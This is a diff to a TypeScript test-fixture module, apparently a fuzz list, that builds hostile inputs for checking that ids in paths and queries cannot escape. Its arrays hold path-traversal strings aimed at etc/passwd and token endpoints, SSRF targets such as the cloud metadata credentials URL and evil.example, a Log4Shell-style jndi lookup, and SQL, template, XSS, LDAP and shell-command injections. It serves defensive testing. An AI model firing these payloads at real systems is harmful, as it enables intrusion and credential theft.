@@ -1,94 +1,27 @@
 const DEPTHS = [1, 2, 3, 5, 8];
 const UP = [
-  "../",
-  "..\\",
-  "..%2f",
-  "..%5c",
-  "%2e%2e/",
-  ".%2e/",
-  "....//",
-  "..;/",
-  "..%c0%af",
-  "．．／",
-  "..%00/",
-  "/./../",
+  ...["../", "..\\", "..%2f", "..%5c", "%2e%2e/", ".%2e/", "....//", "..;/", "..%c0%af", "．．／"],
+  ...["..%00/", "/./../"],
 ];
 const GOALS = ["v3/auth/tokens", "v1/other/services", "etc/passwd", "_simulator/requests", ""];
 
 const HOSTS = [
-  "169.254.169.254/latest/meta-data/iam/security-credentials",
-  "[fd00:ec2::254]/latest/meta-data",
-  "127.0.0.1:9",
-  "2130706433",
-  "0x7f000001",
-  "0177.0.0.1",
-  "[::ffff:127.0.0.1]",
-  "localhost",
-  "evil.example",
-  "evil.example:443",
-  "①②⑦.0.0.1",
+  ...["169.254.169.254/latest/meta-data/iam/security-credentials", "[fd00:ec2::254]/latest/meta-data"],
+  ...["127.0.0.1:9", "2130706433", "0x7f000001", "0177.0.0.1", "[::ffff:127.0.0.1]", "localhost"],
+  ...["evil.example", "evil.example:443", "①②⑦.0.0.1"],
 ];
 const ADDRESSES = [
-  "http://",
-  "https://",
-  "//",
-  "\\\\",
-  "/\\",
-  "@",
-  "user:pass@",
-  "a@b@",
-  "ftp://",
-  "file:///",
+  ...["http://", "https://", "//", "\\\\", "/\\", "@", "user:pass@", "a@b@", "ftp://", "file:///"],
   "gopher://",
 ];
 
 const INJECTIONS = [
-  "' OR '1'='1",
-  "1; DROP TABLE services--",
-  '{"$gt":""}',
-  "$where:1",
-  "{{7*7}}",
-  "#{7*7}",
-  "<%= 7*7 %>",
-  "\u0024{jndi:ldap://evil.example/a}",
-  "<script>alert(1)</script>",
-  '"><img src=x onerror=alert(1)>',
-  "javascript:alert(1)",
-  "*)(uid=*))(|(uid=*",
-  "`id`",
-  "$(id)",
-  "|id",
-  "&& id",
-  "; id",
-  "%0aid",
-  "() { :; }; id",
-  "__proto__",
-  "constructor.prototype",
-  "=1+1",
-  "@SUM(1)",
-  "-1",
-  "1e999",
-  "NaN",
-  "null",
-  "undefined",
-  "true",
-  "[]",
-  "{}",
-  "*",
-  "%",
-  "%%",
-  "%zz",
-  "%u0041",
-  "\ud800",
-  "\u202e",
-  "\ufeff",
-  "\u200b",
-  "ﬀ",
-  "İ",
-  "K",
-  "é",
-  "中文",
-  "🚀",
+  ...["' OR '1'='1", "1; DROP TABLE services--", '{"$gt":""}', "$where:1", "{{7*7}}", "#{7*7}"],
+  ...["<%= 7*7 %>", "\u0024{jndi:ldap://evil.example/a}", "<script>alert(1)</script>"],
+  ...['"><img src=x onerror=alert(1)>', "javascript:alert(1)", "*)(uid=*))(|(uid=*", "`id`", "$(id)"],
+  ...["|id", "&& id", "; id", "%0aid", "() { :; }; id", "__proto__", "constructor.prototype", "=1+1"],
+  ...["@SUM(1)", "-1", "1e999", "NaN", "null", "undefined", "true", "[]", "{}", "*", "%", "%%", "%zz"],
+  ...["%u0041", "\ud800", "\u202e", "\ufeff", "\u200b", "ﬀ", "İ", "K", "é", "中文", "🚀"],
 ];
 
 const LINES = ["\r\n", "\n", "\r", "\u0085", "\u2028", "\v", "\f", "\0", "\t", "\x1b[2J", "\x7f"];
@@ -101,23 +34,7 @@ const LINE_TAILS = [
 ];
 
 const SEPARATORS = [
-  "?",
-  "#",
-  ";",
-  "&",
-  "=",
-  "/",
-  "\\",
-  "//",
-  ":",
-  ",",
-  "|",
-  "+",
-  " ",
-  "%20",
-  "%3f",
-  "%23",
-  "%26",
+  ...["?", "#", ";", "&", "=", "/", "\\", "//", ":", ",", "|", "+", " ", "%20", "%3f", "%23", "%26"],
   "%3b",
 ];
 const TAILS = ["limit=1000", "a", "../b", "project_id=other", "events", "x=y&start_time=0"];
@@ -127,7 +44,7 @@ const LONG = [256, 4_096, 8_192, 16_384, 65_536, 200_000].flatMap((length) => [
   "../".repeat(length / 4),
 ]);
 
-/** What an id in a path or in a query must never be: attempts to leave it, to add to it, or to ask somebody else. */
+/** Attempts to leave a path segment or parameter, to add to it, or to reach another host. */
 export function hostilePayloads(ownId: string): readonly string[] {
   const traversals = DEPTHS.flatMap((depth) =>
     UP.flatMap((up) => GOALS.map((goal) => up.repeat(depth) + goal)),
